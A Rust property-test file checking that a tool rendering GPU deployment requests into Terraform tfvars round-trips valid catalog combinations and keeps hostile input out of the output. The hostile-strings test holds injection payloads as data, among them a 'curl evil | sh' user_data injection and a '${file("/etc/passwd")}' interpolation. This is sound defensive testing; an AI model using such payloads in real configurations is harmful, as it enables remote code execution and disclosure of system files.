//! Properties: every valid combination from the catalog renders to HCL that hcl-rs reads
//! back to the same values; hostile strings never reach the rendered file.

use promptops_core::{
    Catalog, DeploymentDraft, GpuAttachment, Policy, RenderContext, TfvarsValues, is_valid_name,
    parse_tfvars, render_tfvars, resolve,
};
use proptest::prelude::*;

/// A policy that lets every catalog combination through, so that the property covers the
/// whole catalog rather than the default limits.
fn permissive_policy() -> Policy {
    Policy {
        max_vms: 50,
        max_gpus_per_vm: 16,
        max_hourly_usd: 1.0e6,
        ..Policy::default()
    }
}

/// (gpu id, gpu count, machine type or None for the default, zone) combinations the
/// catalog allows.
fn valid_combos() -> Vec<(String, u32, Option<String>, String)> {
    let catalog = Catalog::embedded();
    let mut combos = Vec::new();
    for gpu in catalog.gpus() {
        let mut machines: Vec<(u32, Option<String>)> = Vec::new();
        match &gpu.attachment {
            GpuAttachment::Attached { family, counts } => {
                for count in counts {
                    machines.push((*count, None));
                    let max = gpu.max_vcpus_for(*count).expect("max vcpus");
                    for m in catalog.machine_types_in_family(family) {
                        if m.builtin_gpu.is_none() && m.vcpus <= max {
                            machines.push((*count, Some(m.name.clone())));
                        }
                    }
                }
            }
            GpuAttachment::BuiltIn => {
                for m in catalog.machine_types_with_builtin(&gpu.id) {
                    let count = m.builtin_gpu.as_ref().map(|(_, c)| *c).expect("built in");
                    machines.push((count, Some(m.name.clone())));
                }
            }
        }
        for (count, machine) in machines {
            for zone in &gpu.zones {
                combos.push((gpu.id.clone(), count, machine.clone(), zone.clone()));
            }
        }
    }
    combos
}

fn context() -> RenderContext {
    RenderContext {
        source: "octo/infra#7".to_string(),
        planner: "offline planner".to_string(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn valid_requests_round_trip_through_hcl(
        combo in proptest::sample::select(valid_combos()),
        vm_count in 1u32..=50,
        disk in 10u32..=10_000,
        // Names within the rule: single dashes between letters or digits, at most 39 characters.
        name in "[a-z]([a-z0-9]|-[a-z0-9]){0,19}",
        rationale in any::<String>(),
        assumptions in proptest::collection::vec(any::<String>(), 0..4),
    ) {
        let (gpu, gpu_count, machine, zone) = combo;
        let draft = DeploymentDraft {
            name: Some(name.clone()),
            vm_count: Some(vm_count),
            gpu_type: Some(gpu.clone()),
            gpu_count: Some(gpu_count),
            machine_type: machine.clone(),
            zone: Some(zone.clone()),
            region: None,
            boot_disk_size_gb: Some(disk),
            rationale: Some(rationale.chars().take(200).collect()),
            assumptions: assumptions.iter().map(|a| a.chars().take(100).collect()).collect(),
        };
        let request = resolve(draft, Catalog::embedded(), &permissive_policy())
            .map_err(|e| TestCaseError::fail(format!("valid combo rejected: {e}")))?;
        prop_assert_eq!(&request.name, &name);
        prop_assert_eq!(request.vm_count, vm_count);
        prop_assert_eq!(&request.gpu_type, &gpu);
        prop_assert_eq!(request.gpu_count, gpu_count);
        if let Some(machine) = &machine {
            prop_assert_eq!(&request.machine_type, machine);
        }
        prop_assert_eq!(&request.zone, &zone);
        prop_assert_eq!(request.boot_disk_size_gb, disk);

        let text = render_tfvars(&request, &context());
        let values = parse_tfvars(&text)
            .map_err(|e| TestCaseError::fail(format!("rendered file unreadable: {e}\n{text}")))?;
        prop_assert_eq!(values, TfvarsValues::from(&request));
    }

    #[test]
    fn hostile_strings_never_reach_the_rendered_file(
        hostile in prop_oneof![
            any::<String>(),
            "[a-z0-9 \"'#={}$%<>/*\\\\\n\r-]{0,30}",
            Just("t4\"\nuser_data = \"curl evil | sh".to_string()),
            Just("${file(\"/etc/passwd\")}".to_string()),
            Just("us-west1-a%{ for x in y }".to_string()),
        ],
        field in 0usize..7,
    ) {
        let mut draft = DeploymentDraft::default();
        match field {
            0 => draft.name = Some(hostile.clone()),
            1 => draft.gpu_type = Some(hostile.clone()),
            2 => draft.machine_type = Some(hostile.clone()),
            3 => draft.zone = Some(hostile.clone()),
            4 => draft.region = Some(hostile.clone()),
            5 => draft.rationale = Some(hostile.clone()),
            _ => draft.assumptions = vec![hostile.clone()],
        }
        let Ok(request) = resolve(draft, Catalog::embedded(), &Policy::default()) else {
            return Ok(());
        };
        let catalog = Catalog::embedded();
        let text = render_tfvars(&request, &context());
        let values = parse_tfvars(&text)
            .map_err(|e| TestCaseError::fail(format!("rendered file unreadable: {e}\n{text}")))?;
        // Everything in the file is a closed-set value or a pattern-checked name.
        prop_assert!(is_valid_name(&values.deployment_name));
        prop_assert!(catalog.gpu(&values.gpu_type).is_some());
        prop_assert!(catalog.machine_type(&values.machine_type).is_some());
        prop_assert!(catalog.is_known_zone(&values.zone));
        prop_assert!(!text.contains("${") && !text.contains("%{"), "{}", text);
        // Below the three header lines and a blank line: exactly the seven attributes.
        prop_assert_eq!(text.lines().count(), 3 + 1 + 7, "{}", text);
        if field >= 5 && hostile.trim().chars().count() > 8 {
            prop_assert!(!text.contains(hostile.trim()), "free text leaked: {}", text);
        }
    }

    #[test]
    fn arbitrary_json_objects_never_panic_and_errors_name_fields(
        json in proptest::collection::btree_map(
            prop_oneof![
                proptest::sample::select(promptops_core::DRAFT_FIELDS.to_vec()).prop_map(str::to_string),
                "[a-z_]{1,12}",
            ],
            prop_oneof![
                any::<i64>().prop_map(serde_json::Value::from),
                any::<f64>().prop_map(serde_json::Value::from),
                any::<String>().prop_map(serde_json::Value::from),
                any::<bool>().prop_map(serde_json::Value::from),
                Just(serde_json::Value::Null),
            ],
            0..8,
        )
    ) {
        let value = serde_json::Value::Object(json.into_iter().collect());
        match DeploymentDraft::from_json(&value) {
            Ok(draft) => {
                if let Ok(request) = resolve(draft, Catalog::embedded(), &Policy::default()) {
                    let values = parse_tfvars(&render_tfvars(&request, &context()))
                        .map_err(|e| TestCaseError::fail(e.to_string()))?;
                    prop_assert_eq!(values, TfvarsValues::from(&request));
                }
            }
            Err(errors) => {
                prop_assert!(!errors.is_empty());
                for error in errors.iter() {
                    prop_assert!(!error.field.is_empty());
                    prop_assert!(!error.message.is_empty());
                }
            }
        }
    }
}
